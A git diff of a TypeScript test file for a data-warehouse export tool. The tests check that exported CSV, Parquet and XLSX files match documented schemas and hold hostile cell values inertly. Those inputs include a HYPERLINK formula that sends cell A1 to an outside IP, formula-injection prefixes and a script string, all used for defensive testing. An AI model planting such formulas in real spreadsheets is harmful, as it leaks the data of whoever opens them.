@@ -7,17 +7,18 @@ import { cpSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, syml
 import { tmpdir } from "node:os";
 import { join } from "node:path";
 import { parse } from "csv-parse/sync";
-import { asyncBufferFromFile, parquetReadObjects } from "hyparquet";
+import { asyncBufferFromFile, parquetMetadataAsync, parquetReadObjects } from "hyparquet";
 import { Open } from "unzipper";
 import { afterAll, beforeAll, describe, expect, inject, test, vi } from "vitest";
 import { EXIT } from "../src/errors.ts";
 import { exportWarehouse } from "../src/export.ts";
+import { packagePath } from "../src/package-root.ts";
 import { addMadeLetters } from "./support/answering.ts";
 import { makeAnswer, makeLetter, makeQuestion, YEAR_2018, YEAR_2019 } from "./support/make-letters.ts";
 import { hasPackage, loadPackage } from "./support/optional-package.ts";
 import { refreshInto } from "./support/refreshing.ts";
 import { SAMPLE_BUNDLE } from "./support/sample-release.ts";
-import { makeWarehouse, query, runCommand, type TestSetting, WAREHOUSES } from "./support/warehouses.ts";
+import { makeWarehouse, query, queryAll, runCommand, type TestSetting, WAREHOUSES } from "./support/warehouses.ts";
 
 vi.setConfig({ testTimeout: 120_000 });
 
@@ -25,6 +26,10 @@ const FORMATS = ["csv", "parquet", "xlsx"] as const;
 const FORMULA = '=HYPERLINK("http://198.51.100.1/"&A1;"click")';
 const SCRIPT = '<script>alert(1)</script>]]>&\u001b[31mred\u0007 _x0041_ \u202e,"quoted"\nnext line';
 const HOSTILE = [FORMULA, "+1+1", "-1+1", "@SUM(A1)", "\tTAB", "\rCR", SCRIPT];
+
+const SCALE = readFileSync(packagePath("docs/scale.md"), "utf8");
+/** What a column of each SQL type is in a Parquet file. */
+const PARQUET_TYPES: Readonly<Record<string, string>> = { varchar: "UTF8", date: "DATE", double: "DOUBLE" };
 
 const LETTER = makeLetter({
   questions: HOSTILE.map((text, index) =>
@@ -65,7 +70,7 @@ describe.each(WAREHOUSES)("an export on %s", (kind) => {
   beforeAll(async () => {
     home = mkdtempSync(join(tmpdir(), "s21-export-test-"));
     setting = await makeWarehouse(kind);
-    await refreshInto(setting, { from: SAMPLE_BUNDLE, publishedAt: "2022-10-27T00:00:00.000Z", las: ["Leicester"] });
+    await refreshInto(setting, { from: SAMPLE_BUNDLE, publishedAt: "2022-10-27T08:30:00.000Z", las: ["Leicester"] });
     await addMadeLetters(setting, [LETTER]);
     for (const format of FORMATS) await exportWarehouse(setting.config, at(format), format, false);
   });
@@ -123,6 +128,33 @@ describe.each(WAREHOUSES)("an export on %s", (kind) => {
     });
     expect(new Set(letters.map((row) => row.question_text))).toEqual(new Set(HOSTILE));
     expect(letters.map((row) => row.value).filter((value) => value === -5)).toHaveLength(HOSTILE.length);
+  });
+
+  test("parquet lies as docs/scale.md tells bigger engines: folders are the last columns, the others have its types", async () => {
+    const statement = /create table hive\.s21\.(\w+) \(([\s\S]+?)\) with \(/.exec(SCALE);
+    const told = [...(statement?.[2] ?? "").matchAll(/(\w+) (varchar|date|double|bigint|timestamp)/g)];
+    const partitions = /partitioned_by = array\[([^\]]+)\]/.exec(SCALE)?.[1]?.match(/\w+/g) ?? [];
+    const table = at(`parquet/${statement?.[1]}`);
+    const [path = ""] = readdirSync(table, { recursive: true, encoding: "utf8" }).filter((name) =>
+      name.endsWith(".parquet"),
+    );
+    expect(
+      path
+        .split("/")
+        .slice(0, -1)
+        .map((folder) => folder.split("=")[0]),
+    ).toEqual(partitions);
+    const { schema } = await parquetMetadataAsync(await asyncBufferFromFile(join(table, path)));
+    const types = new Map(schema.slice(1).map((column) => [column.name, column.converted_type ?? column.type]));
+    for (const name of partitions) expect(types.has(name), name).toBe(false);
+    const inFile = told.slice(0, -partitions.length);
+    expect(told.slice(-partitions.length).map(([, name, type]) => `${name} ${type}`)).toEqual(
+      partitions.map((name) => `${name} varchar`),
+    );
+    expect(inFile.map(([, name = ""]) => `${name} ${types.get(name)}`)).toEqual(
+      inFile.map(([, name, type = ""]) => `${name} ${PARQUET_TYPES[type]}`),
+    );
+    expect([types.get("source_line"), types.get("published_at")]).toEqual(["INT64", "TIMESTAMP_MILLIS"]);
   });
 
   test("xlsx has typed cells, notes first, and no formula", async () => {
@@ -184,37 +216,45 @@ describe.each(WAREHOUSES)("an export on %s", (kind) => {
       select release::varchar as release, data_set, count(*)::int as n, round(sum(value), 1) as total
       from read_parquet('${at("parquet/dfe_observation")}/**/*.parquet', hive_partitioning = true) group by 1, 2 order by 2`);
     expect(found).toEqual(held.map((row) => ({ ...row, total: Number(row.total) })));
+    // As the page for bigger engines has it.
+    const told = /```sql\n(select release,[\s\S]+?)```/.exec(SCALE)?.[1]?.replace("out/", `${at("parquet")}/`) ?? "";
+    expect(await read(told)).toEqual([
+      expect.objectContaining({
+        release: "2022",
+        "count_star()": String(held.reduce((sum, row) => sum + Number(row.n), 0)),
+      }),
+    ]);
     const csv = await read(`select count(*)::int as n from read_csv('${at("csv/dfe_observation.csv")}')`);
     expect(csv).toEqual([{ n: held.reduce((sum, row) => sum + Number(row.n), 0) }]);
   });
 
-  test.skipIf(!hasPackage("datapackage"))(
-    "a Data Package validator casts every row of the CSV files (datapackage)",
-    async () => {
-      interface Frictionless {
-        default: { Package: { load(descriptor: unknown, options: unknown): Promise<FrictionlessPackage> } };
-      }
-      interface FrictionlessPackage {
-        valid: boolean;
-        errors: unknown[];
-        resources: { name: string; read(options: unknown): Promise<unknown[]> }[];
-      }
-      const { default: frictionless } = await loadPackage<Frictionless>("datapackage");
-      const described = JSON.parse(readFileSync(at("csv/datapackage.json"), "utf8"));
-      // It knows version 1, where missing values have no labels.
-      for (const resource of described.resources) {
-        resource.profile = "tabular-data-resource";
-        resource.schema.missingValues = resource.schema.missingValues.map((one: { value: string }) => one.value);
-        delete resource.dialect;
-      }
-      const loaded = await frictionless.Package.load(described, { basePath: at("csv") });
-      expect(loaded.errors).toEqual([]);
-      for (const resource of loaded.resources) {
-        const [held] = await query(setting.config, `select count(*)::int as n from ${resource.name}`);
-        expect((await resource.read({ keyed: true, cast: true })).length, resource.name).toBe(held?.n);
-      }
-    },
-  );
+  test("a Data Package validator casts every row of the CSV files (datapackage)", async () => {
+    interface Frictionless {
+      default: { Package: { load(descriptor: unknown, options: unknown): Promise<FrictionlessPackage> } };
+    }
+    interface FrictionlessPackage {
+      valid: boolean;
+      errors: unknown[];
+      resources: { name: string; read(options: unknown): Promise<unknown[]> }[];
+    }
+    const { default: frictionless } = await loadPackage<Frictionless>("datapackage");
+    const described = JSON.parse(readFileSync(at("csv/datapackage.json"), "utf8"));
+    // It knows version 1, where missing values have no labels.
+    for (const resource of described.resources) {
+      resource.profile = "tabular-data-resource";
+      resource.schema.missingValues = resource.schema.missingValues.map((one: { value: string }) => one.value);
+      delete resource.dialect;
+    }
+    const loaded = await frictionless.Package.load(described, { basePath: at("csv") });
+    expect(loaded.errors).toEqual([]);
+    expect(loaded.valid).toBe(true);
+    const counts = described.resources.map(({ name }: { name: string }) => `select count(*)::int as n from ${name}`);
+    const held = await queryAll(setting.config, counts);
+    expect(loaded.resources.length).toBeGreaterThan(5);
+    for (const [index, resource] of loaded.resources.entries()) {
+      expect((await resource.read({ keyed: true, cast: true })).length, resource.name).toBe(held[index]?.[0]?.n);
+    }
+  });
 
   test.skipIf(!hasSoffice())("LibreOffice opens the workbook, and computes nothing in it (soffice)", async () => {
     const all = "csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,false,false,false,-1";
@@ -257,7 +297,7 @@ describe("a disk without space", () => {
     const setting = await makeWarehouse("postgres");
     const home = mkdtempSync(join(tmpdir(), "s21-export-full-"));
     try {
-      await refreshInto(setting, { from: SAMPLE_BUNDLE, publishedAt: "2022-10-27T00:00:00.000Z", las: ["Leicester"] });
+      await refreshInto(setting, { from: SAMPLE_BUNDLE, publishedAt: "2022-10-27T08:30:00.000Z", las: ["Leicester"] });
       await exportWarehouse(setting.config, join(home, "out"), "csv", false);
       const before = readFolder(join(home, "out"));
       // The shell lets no file grow over 100 blocks of 1,024 bytes.
